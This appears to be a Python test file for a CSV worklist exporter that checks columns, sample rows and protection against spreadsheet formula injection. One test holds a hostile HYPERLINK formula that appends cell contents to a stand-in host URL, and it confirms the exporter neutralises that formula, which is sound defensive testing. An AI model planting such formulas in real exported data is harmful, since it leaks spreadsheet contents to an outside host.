"""The CSV worklist: its columns, its types, and no cell that is a program."""

from __future__ import annotations

import csv
import io

from conf import Settings
from tests.literal_worklist import RM, literal_worklist
from worklists.columns import COLUMNS
from worklists.csv_file import worklist_csv


def test_the_first_line_of_the_day(settings: Settings) -> None:
    content = worklist_csv(literal_worklist(), settings)

    assert content.startswith(b"\xef\xbb\xbfalert_id,")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 6
    first = rows[0]
    assert (first["alert_id"], first["priority"], first["due_by"]) == ("AL-7K3FQ2M9-C", "91", "2026-11-26")
    assert (first["customer_name"], first["type"]) == ("Zhang Wei", "Money leaving")
    assert (first["offer_1"], first["offer_1_expected_value"]) == ("Mortgage", "2140.0")
    assert (first["outcome"], first["cause"], first["note"], first["relationship_manager_id"]) == ("", "", "", RM)
    assert rows[2]["offer_1"] == ""


def test_names_and_texts_from_outside_are_never_formulas(settings: Settings) -> None:
    attack = '=HYPERLINK("http://x.test?"&A1,"pay")'
    content = worklist_csv(literal_worklist(names={"C000101": attack}, headline=f"x;{attack}", reason=f"\t{attack}"), settings)

    (first, *_) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))

    assert first["customer_name"] == f"'{attack}"
    assert first["headline"] == f"x;'{attack}"
    assert first["reason"] == f"'{attack}"
